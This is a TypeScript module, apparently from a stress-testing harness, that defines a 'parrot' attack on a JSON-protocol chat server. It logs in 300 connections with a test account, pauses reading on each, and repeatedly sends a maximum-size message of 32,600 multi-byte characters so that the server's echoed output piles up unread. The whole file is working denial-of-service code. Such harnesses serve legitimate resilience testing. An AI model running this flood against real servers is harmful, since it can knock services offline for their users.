import type { Socket } from 'node:net';
import { parrotAccount } from '../accounts.ts';
import type { Attack, AttackContext } from '../attack.ts';
import { attackLink, forMany, pour } from '../links.ts';

const links = 300;
/** The server writes é back in six bytes. */
const text = 'é'.repeat(32_600);
const pdu = (mtype: number, payload: object): string =>
  `${JSON.stringify({ mtype, payload, version: '1.0.0', sz: 1 })}\n`;

interface Parrot {
  readonly socket: Socket;
  readonly id: number;
}

const parrots: Parrot[] = [];

async function logIn(context: AttackContext): Promise<void> {
  const socket = await attackLink(context, context.ports['pdu'] ?? 0);
  if (!socket) return;
  const id = new Promise<number | undefined>((resolve) => {
    let said = '';
    socket
      .on('close', () => resolve(undefined))
      .on('data', (chunk) => {
        said += chunk.toString('latin1');
        const [, found] = /"auth": 0, "id": (\d+)/.exec(said) ?? [];
        if (found !== undefined) resolve(Number(found));
      });
  });
  socket.write(pdu(1, { username: parrotAccount.name, password: parrotAccount.password }));
  const own = await id;
  if (own === undefined) return;
  socket.removeAllListeners('data');
  socket.pause();
  parrots.push({ socket, id: own });
}

export const parrot: Attack = {
  name: 'parrot',
  about: `${links} pdu links send the largest PDU again and again and read no answer`,
  async prepare(context) {
    await forMany(context, links, () => logIn(context), 8);
  },
  async strike(context) {
    context.count('parrots', parrots.length);
    for (const { socket, id } of parrots) {
      if (socket.destroyed) context.count('lost before');
      else pour(context, socket, Buffer.from(pdu(3, { id, time: 1, message: text })));
    }
  },
};
